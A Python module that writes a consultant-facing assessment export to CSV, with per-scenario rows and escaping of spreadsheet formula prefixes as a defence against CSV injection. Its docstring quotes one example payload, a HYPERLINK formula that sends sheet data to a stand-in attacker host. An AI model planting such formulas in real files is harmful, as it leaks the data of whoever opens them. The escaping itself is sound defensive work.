"""A consultant's assessments as CSV: one row per assessment, answers and result columns.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or carriage return) as a formula: a client name such as
``=HYPERLINK("http://evil.example/?"&A1)`` would leak the sheet when the
consultant opens the export. Every text cell starting with one of those
gets a leading single quote (OWASP, "CSV Injection"). Numbers we computed
are written as numbers: ``-10`` from a growth answer is not a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping, Sequence
from datetime import datetime
from typing import TYPE_CHECKING, Any

from advisor import wording
from advisor.assessments.comparison import BASE_NAME, ScenarioOutcome, outcome_of
from advisor.options import OPTION_LABELS, V3_OPTIONS
from advisor.snapshot import ResultSnapshot

if TYPE_CHECKING:
    from advisor.assessments.models import Assessment, ScenarioVariant

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# What the dashboard and the result page say when the gates leave no option.
NO_OPTION_LEFT = "Every option ruled out"
FIXED_COLUMNS = (
    "client_name",
    "status",
    "created_at",
    "updated_at",
    "completed_at",
    "ruleset",
    "recommendation",
    "confidence",
    # The figure each result was decided on: adjusted (decision model v3; with
    # the hosted open model) or the projected TCO (results scored before it).
    *(f"tco_{option}_usd" for option in V3_OPTIONS),
    "excluded",
    "caveats",
    "notes",
    # "As answered" for the assessment's own result; a variant's name on the
    # rows after it (its answer columns carry its changed answers).
    "scenario",
)
ANSWER_PREFIX = "answer:"


def neutralise(value: Any) -> str | int | float:
    """A cell value a spreadsheet will show as text, never run as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    if isinstance(value, datetime):
        return value.isoformat(timespec="seconds")
    if isinstance(value, list | tuple):
        value = "; ".join(str(item) for item in value)
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def assessments_csv(assessments: Sequence[Assessment]) -> str:
    """The whole export as text (a consultant has hundreds of rows, not millions)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in csv_rows(assessments):
        writer.writerow(row)
    return buffer.getvalue()


def csv_rows(assessments: Sequence[Assessment]) -> Iterator[list[Any]]:
    """The header, then per assessment its row and one row per scenario variant."""
    answer_keys = _answer_keys(
        [assessment.answers for assessment in assessments]
        + [variant.overrides for assessment in assessments for variant in _variants_of(assessment)]
    )
    yield [*FIXED_COLUMNS, *(f"{ANSWER_PREFIX}{key}" for key in answer_keys)]
    for assessment in assessments:
        variants = _variants_of(assessment)
        cells = [
            *_fixed_cells(assessment),
            BASE_NAME if variants else "",
            *(assessment.answers.get(key) for key in answer_keys),
        ]
        yield [neutralise(cell) for cell in cells]
        for variant in variants:
            answers = {**assessment.answers, **variant.overrides}
            cells = [
                *_variant_cells(assessment, variant),
                variant.name,
                *(answers.get(key) for key in answer_keys),
            ]
            yield [neutralise(cell) for cell in cells]


def _variants_of(assessment: Assessment) -> list[ScenarioVariant]:
    """Its scenario variants (prefetched by the export's selector); an unsaved row has none."""
    return list(assessment.variants.all()) if assessment.pk else []


def _variant_cells(assessment: Assessment, variant: ScenarioVariant) -> list[Any]:
    cells = _assessment_cells(assessment)
    if variant.outcome is None:
        return [*cells, "", None, *(None for _ in V3_OPTIONS), [], [variant.problem], ""]
    outcome = ScenarioOutcome.from_dict(variant.outcome)
    return [
        *cells,
        _label(outcome.recommendation),
        wording.share(outcome.confidence),
        *(_usd(outcome.tco_usd.get(option)) for option in V3_OPTIONS),
        [],
        [],
        "",
    ]


def _assessment_cells(assessment: Assessment) -> list[Any]:
    """The columns that say which assessment a row is (its own row and its variants')."""
    return [
        assessment.client_name,
        assessment.status,
        assessment.created_at,
        assessment.updated_at,
        assessment.completed_at,
        f"{assessment.ruleset.name} {assessment.ruleset.version}",
    ]


def _label(option: str | None) -> str:
    """An option as the consultant's pages name it ("Hosted open model", never ``open_api``)."""
    return NO_OPTION_LEFT if option is None else OPTION_LABELS.get(option, option)


def _usd(value: float | None) -> int | None:
    """A cost as every other surface states it, three significant figures ("$49.6M" is
    49600000), kept a number so a spreadsheet can add it up."""
    return None if value is None else int(wording.round_significant(float(value)))


def _answer_keys(answer_sets: Iterable[Mapping[str, Any]]) -> list[str]:
    keys: set[str] = set()
    for answers in answer_sets:
        keys.update(answers)
    return sorted(keys)


def _fixed_cells(assessment: Assessment) -> list[Any]:
    cells = _assessment_cells(assessment)
    if not assessment.result:
        return [*cells, "", None, *(None for _ in V3_OPTIONS), [], [], assessment.notes]
    result = ResultSnapshot.from_dict(assessment.result)
    totals = outcome_of(result).tco_usd
    return [
        *cells,
        _label(result.recommendation),
        # As every page shows it ("82%"); a spreadsheet reads it as a percentage.
        wording.share(result.confidence),
        *(_usd(totals.get(option)) for option in V3_OPTIONS),
        sorted(_label(option) for option in result.excluded),
        # The caveats in words, as the client reads them (the codes are internal);
        # each is a sentence, so they join with a space, not "; ".
        " ".join(caveat.text for caveat in result.caveats),
        assessment.notes,
    ]
